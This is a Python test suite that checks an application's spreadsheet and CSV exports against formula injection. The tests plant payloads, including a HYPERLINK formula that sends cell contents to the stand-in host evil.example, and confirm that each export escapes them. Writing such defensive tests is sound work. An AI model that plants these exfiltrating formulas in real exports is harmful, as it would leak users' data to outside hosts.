"""No file Lintas writes makes a spreadsheet run what someone typed (CSV/formula injection).

Text that a spreadsheet would take for a formula, planted where people can type it (an answer,
a person's display name, a unit's or a template's name, a case reference, a place, a name in a
case), is written by every export with a leading apostrophe, OWASP's rule, and stored in a
workbook as text, never as a formula; numbers stay numbers. The offline report workbook is
protected input instead: its text is stored as text in cells formatted as text, unquoted, and
reads back exactly as it was written.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import msoffcrypto
import pytest
import pyzipper
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from lintas.cases import services as cases
from lintas.cases.interchange import Format, export_cases
from lintas.cases.models import TLP, Case
from lintas.cases.services import import_cases
from lintas.formats.cells import FORMULA_START, csv_bytes, read_cell, safe_cell
from lintas.members import services as members
from lintas.members.models import Unit
from lintas.networks.engine.tables import write_table
from lintas.reporting import offline
from lintas.reporting import services as reporting
from lintas.reporting.models import Obligation
from lintas.synthesis import render
from lintas.synthesis.consolidate import consolidate
from tests.conftest import Cast, sign_in

PLANTED = {
    "a hyperlink formula": '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "a plus": "+1",
    "a minus": "-2+3",
    "an at sign": "@SUM(A1)",
    "a tab": "\t=1+1",
}
PASSWORD = "a long export password"
NUMBER = re.compile(r"-?\d+(\.\d+)?")


@dataclass
class Cell:
    value: Any
    data_type: str | None  # openpyxl's type in a workbook; None in a CSV


# --- the reports behind the consolidated report ----------------------------------------------


def _structure(planted: str) -> dict[str, Any]:
    return {
        "sections": [
            {
                "code": "main",
                "title": {"en": planted},
                "fields": [
                    {"code": "cases", "type": "integer", "label": {"en": planted}, "min": 0},
                    {"code": "situation", "type": "long_text", "label": {"en": "Situation"}},
                    {
                        "code": "trainings",
                        "type": "table",
                        "label": {"en": "Trainings"},
                        "columns": [
                            {"code": "title", "type": "short_text", "label": {"en": "Title"}},
                            {"code": "people", "type": "integer", "label": {"en": "People"}},
                        ],
                    },
                ],
            }
        ]
    }


def _obligation(cast: Cast, planted: str) -> Obligation:
    """Unit A renamed to the planted text and its focal point calling themself by it; a template
    named by it, with its section and a question labelled by it."""
    members.update_unit(cast.unit_a, by=cast.secretariat, name=planted)
    members.update_profile(cast.focal_a, by=cast.focal_a, full_name=planted)
    template = reporting.create_template(
        body=cast.body,
        code="t",
        name={"en": planted},
        structure=_structure(planted),
        by=cast.secretariat,
    )
    return reporting.define_obligation(
        body=cast.body,
        template=template,
        units=[cast.unit_a, cast.unit_b],
        period_type="monthly",
        starts_on=dt.date(2024, 1, 1),
        due_days=10,
        by=cast.secretariat,
    )


def _send(cast: Cast, obligation: Obligation, unit: Any, by: Any, period: str, data: Any) -> Any:
    sub = reporting.start_submission(obligation=obligation, unit=unit, period_key=period, by=by)
    return reporting.submit_report(sub, by=by, data=data, revision=sub.revision)


def _reported(cast: Cast, planted: str) -> Obligation:
    """Unit A answers with the planted text and reports fewer cases in March than in February:
    the change of the total is a negative number (10 to 4 + 1)."""
    obligation = _obligation(cast, planted)
    answers = {"situation": planted, "trainings": [{"title": planted, "people": 3}]}
    _send(cast, obligation, cast.unit_a, cast.focal_a, "2024-02", {"cases": 10, **answers})
    _send(cast, obligation, cast.unit_a, cast.focal_a, "2024-03", {"cases": 4, **answers})
    _send(cast, obligation, cast.unit_b, cast.focal_b, "2024-03", {"cases": 1, "situation": "-"})
    return obligation


def _consolidated(cast: Cast, planted: str) -> Any:
    return consolidate(
        _reported(cast, planted), first="2024-03", language="en", include_submitted=True
    )


# --- reading a file back as a spreadsheet would ----------------------------------------------


def _workbook_cells(content: bytes) -> list[Cell]:
    book = load_workbook(io.BytesIO(content))
    return [
        Cell(cell.value, cell.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def _csv_cells(content: bytes) -> list[Cell]:
    text = content.decode("utf-8-sig")
    return [Cell(value, None) for row in csv.reader(io.StringIO(text)) for value in row]


def _unlocked(content: bytes) -> bytes:
    office = msoffcrypto.OfficeFile(io.BytesIO(content))
    office.load_key(password=PASSWORD)
    plain = io.BytesIO()
    office.decrypt(plain)
    return plain.getvalue()


def _unzipped(content: bytes) -> bytes:
    with pyzipper.AESZipFile(io.BytesIO(content)) as archive:
        archive.setpassword(PASSWORD.encode())
        return archive.read(archive.namelist()[0])


# --- every export ----------------------------------------------------------------------------


def _synthesis_xlsx(cast: Cast, planted: str) -> list[Cell]:
    return _workbook_cells(render.render(_consolidated(cast, planted), "xlsx").content)


def _synthesis_csv(cast: Cast, planted: str) -> list[Cell]:
    return _csv_cells(render.render(_consolidated(cast, planted), "csv").content)


def _case_with(cast: Cast, planted: str) -> None:
    """A case of unit A (renamed to the planted text) with the planted text as its reference,
    narrative, an event's place, and a victim's name, alias and phone number."""
    members.update_unit(cast.unit_a, by=cast.secretariat, name=planted)
    case = cases.create_case(
        body=cast.body,
        owner_unit=cast.unit_a,
        by=cast.focal_a,
        tlp=TLP.AMBER,
        reference=planted,
        opened_on=dt.date(2024, 3, 1),
        narrative=planted,
        narrative_language="en",
    )
    cases.add_event(
        case,
        by=cast.focal_a,
        kind="recruitment",
        occurred_on=dt.date(2024, 1, 10),
        country="VN",
        place=planted,
    )
    cases.add_person(
        case,
        by=cast.focal_a,
        role="victim",
        full_name=planted,
        aliases=[planted],
        contacts={"phones": ["+84 912 345 678"], "emails": [], "social": []},
    )


def _case_export(file_format: str) -> Callable[[Cast, str], list[Cell]]:
    def export(cast: Cast, planted: str) -> list[Cell]:
        _case_with(cast, planted)
        personal = file_format != Format.CSV
        made = export_cases(
            body=cast.body,
            by=cast.focal_a,
            personal_data=personal,
            file_format=file_format,
            password=PASSWORD if personal else "",
        )
        if file_format == Format.XLSX:
            return _workbook_cells(_unlocked(made.content))
        if file_format == Format.ZIP:
            return _csv_cells(_unzipped(made.content))
        return _csv_cells(made.content)

    return export


def _import_problems(cast: Cast, planted: str) -> list[Cell]:
    """The list of an import's problems, downloaded as CSV, repeats the values it refused."""
    client = sign_in(Client(), cast.focal_a)
    url = reverse("cases:import", args=["twg"])
    rows = io.StringIO()
    csv.writer(rows).writerows(
        [["case_reference", "case_opened_on", "case_location_country"], ["A-1", "2024-03-02", ""]]
    )
    content = rows.getvalue().replace("A-1,2024-03-02,", "A-1,2024-03-02," + _quoted_csv(planted))
    upload = io.BytesIO(content.encode())
    upload.name = "cases.csv"
    page = client.post(url, {"owner_unit": cast.unit_a.pk, "file": upload, "step": "check"})
    assert "Nothing was imported" in page.content.decode()
    return _csv_cells(client.get(url + "?format=csv").content)


def _quoted_csv(value: str) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="").writerow([value])
    return out.getvalue()


def _network_table(cast: Cast, planted: str) -> list[Cell]:
    text = write_table(("record_id", "person_id", "risk"), [(planted, "P1", -0.5)])
    return _csv_cells(text.encode())


EXPORTS: dict[str, Callable[[Cast, str], list[Cell]]] = {
    "the consolidated report as XLSX": _synthesis_xlsx,
    "the consolidated report as CSV": _synthesis_csv,
    "the cases as plain CSV": _case_export(Format.CSV),
    "the cases in a locked workbook": _case_export(Format.XLSX),
    "the cases as CSV in a locked zip": _case_export(Format.ZIP),
    "the problems of a case import": _import_problems,
    "the network engine's table": _network_table,
}


@pytest.mark.parametrize("planted", list(PLANTED.values()), ids=list(PLANTED))
@pytest.mark.parametrize("export", list(EXPORTS))
def test_no_export_makes_a_spreadsheet_run_what_someone_typed(
    cast: Cast, export: str, planted: str
) -> None:
    cells = EXPORTS[export](cast, planted)

    assert not [c for c in cells if c.data_type == "f"]  # no formula in any workbook
    texts = [c.value for c in cells if isinstance(c.value, str)]
    runs = [t for t in texts if t.startswith(FORMULA_START) and not NUMBER.fullmatch(t)]
    assert runs == []
    # written, behind its apostrophe (some cells are trimmed of spaces and tabs first)
    assert {"'" + planted, "'" + planted.strip()} & set(texts)
    assert all(c.data_type in {None, "s"} for c in cells if isinstance(c.value, str))


def test_numbers_stay_numbers_a_negative_one_too(cast: Cast) -> None:
    report = _consolidated(cast, "+1")
    cells = _workbook_cells(render.render(report, "xlsx").content)
    rows = list(csv.reader(io.StringIO(render.render(report, "csv").content.decode("utf-8-sig"))))

    assert Cell(-5, "n") in cells  # the change of the total: 5 cases in March, 10 in February
    total = next(r for r in rows if r[1] == "cases" and r[3] == "Total")
    assert total[4:7] == ["5", "10", "-5"]  # unquoted: a number, not a text


def test_the_cell_rule_reads_back_exactly_what_it_wrote() -> None:
    values = [*PLANTED.values(), "'=1", "''+2", "'quoted", "plain", "", "'", "-", 3, -4.5, None]

    assert [read_cell(safe_cell(v)) for v in values] == values
    assert [safe_cell(v) for v in (-4.5, 3, None)] == [-4.5, 3, None]
    assert safe_cell("'=1") == "''=1"  # one more apostrophe, taken off again on reading


def test_an_imported_export_reads_the_text_without_its_apostrophe(cast: Cast) -> None:
    planted = PLANTED["a hyperlink formula"]
    _case_with(cast, planted)
    made = export_cases(
        body=cast.body,
        by=cast.focal_a,
        personal_data=True,
        file_format=Format.XLSX,
        password=PASSWORD,
    )
    result = import_cases(
        body=cast.other_body,
        owner_unit=Unit.objects.get(body=cast.other_body),
        by=cast.focal_c,
        file=_unlocked(made.content),
    )

    assert result.saved, result.problems
    copy = Case.objects.get(body=cast.other_body)
    assert (copy.reference, copy.narrative) == (planted, planted)
    person = copy.persons.get()
    assert (person.full_name, person.aliases) == (planted, [planted])
    assert person.contacts["phones"] == ["+84 912 345 678"]
    assert copy.events.get().place == planted


# --- the offline report workbook: protected input --------------------------------------------


@pytest.mark.parametrize("planted", list(PLANTED.values()), ids=list(PLANTED))
def test_the_offline_workbook_keeps_typed_text_as_text_and_reads_it_back_unchanged(
    cast: Cast, planted: str
) -> None:
    obligation = _obligation(cast, planted)
    sub = reporting.start_submission(
        obligation=obligation, unit=cast.unit_a, period_key="2024-03", by=cast.focal_a
    )
    data = {"cases": 4, "situation": planted, "trainings": [{"title": planted, "people": 3}]}
    reporting.save_draft(
        sub, data=data, comments={"cases": planted}, revision=sub.revision, by=cast.focal_a
    )
    sub.refresh_from_db()
    saved = (sub.data, sub.comments)

    content = offline.build_workbook(sub, "en")
    book = load_workbook(io.BytesIO(content))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value]
    planted_cells = [c for c in cells if isinstance(c.value, str) and planted.strip() in c.value]
    response = sign_in(Client(), cast.focal_a).post(
        reverse("reporting:submission-upload", args=["twg", sub.pk]),
        {"file": _named(content, "r.xlsx")},
    )

    assert not [c for c in cells if c.data_type == "f"]
    assert all(c.data_type == "s" for c in planted_cells)
    stored = sub.data["situation"]  # the answer as saved (trimmed of spaces and tabs)
    typed = [c for c in planted_cells if c.value == stored]  # as it was saved: no apostrophe
    assert {c.coordinate for c in typed if c.parent.title == "Report"} >= {"C8", "E7"}
    for c in typed:  # a cell a person may change holds text only as text; the others are locked
        assert c.number_format == "@" or c.protection.locked
    assert response.status_code == 302
    sub.refresh_from_db()
    assert (sub.data, sub.comments) == saved
    assert sub.revision == 3  # the upload saved a new revision with the same answers


def _named(content: bytes, name: str) -> io.BytesIO:
    upload = io.BytesIO(content)
    upload.name = name
    return upload


def test_a_csv_file_carries_a_byte_order_mark_and_reads_back_to_its_values() -> None:
    rows: list[list[Any]] = [
        ["name", "note"],
        ["Nguyễn Thị Hoa", '=HYPERLINK("http://evil.example")'],
        [3, -2],
    ]

    data = csv_bytes(rows)

    assert data.startswith(b"\xef\xbb\xbf")
    read = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert read[1] == ["Nguyễn Thị Hoa", '\'=HYPERLINK("http://evil.example")']
    assert [read_cell(cell) for cell in read[1]] == [str(v) for v in rows[1]]
    assert read[2] == ["3", "-2"]  # numbers stay numbers
